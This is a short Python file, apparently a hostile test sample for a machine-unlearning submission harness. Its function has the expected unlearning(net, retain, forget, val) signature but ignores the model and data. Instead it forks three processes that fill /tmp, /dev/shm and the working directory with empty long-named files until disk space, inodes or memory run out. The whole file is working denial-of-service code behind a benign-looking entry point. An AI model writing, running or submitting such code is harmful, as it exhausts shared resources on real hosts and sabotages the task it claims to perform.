"""Creates empty files with long names, in three processes, until space or memory is used up."""

import errno
import os


def unlearning(net, retain, forget, val):
    children = []
    for folder in ("/tmp", "/dev/shm", os.getcwd()):
        child = os.fork()
        if child == 0:
            flood(folder)
        children.append(child)
    for child in children:
        os.waitpid(child, 0)


def flood(folder):
    name, number = f"{folder}/unlearn-hostile-{os.getpid()}-".ljust(230, "x"), 0
    try:
        while True:
            os.close(os.open(f"{name}{number}", os.O_CREAT | os.O_WRONLY))
            number += 1
    except OSError as error:
        print(errno.errorcode[error.errno], flush=True)
    os._exit(0)
